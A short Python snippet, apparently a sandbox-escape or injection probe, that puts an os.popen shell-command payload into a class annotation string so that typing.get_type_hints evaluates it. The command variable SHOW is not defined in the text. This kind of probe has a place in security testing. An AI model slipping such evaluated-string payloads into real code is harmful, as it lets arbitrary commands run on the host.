# tries: a text that is evaluated
# class: library
# bare: gate
import typing
class A: pass
A.__annotations__ = {"x": "__import__('os').popen(%r).read()" % SHOW}
try:
    print(typing.get_type_hints(A, {"__builtins__": None} and {}))
except Exception as e:
    print(e)
